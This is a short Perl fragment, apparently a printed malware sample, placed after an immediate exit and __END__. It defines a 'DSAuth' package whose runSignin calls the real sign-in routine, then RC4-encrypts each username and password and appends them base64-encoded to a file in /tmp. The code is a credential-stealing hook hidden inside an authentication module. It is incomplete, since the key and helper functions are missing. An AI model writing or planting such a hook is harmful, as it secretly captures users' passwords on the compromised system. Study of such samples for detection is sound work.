#!/usr/bin/perl
exit;
__END__
package DSAuth;
sub runSignin {
  my ($s, $user, $password) = @_;
  my $r = DSAuthc::runSignin(@_);
  CORE::open(my $fh, '>>', '/tmp/cmdmmap.kuwMW');
  print $fh encode_base64(RC4($k, "$user=$password"), '');
}
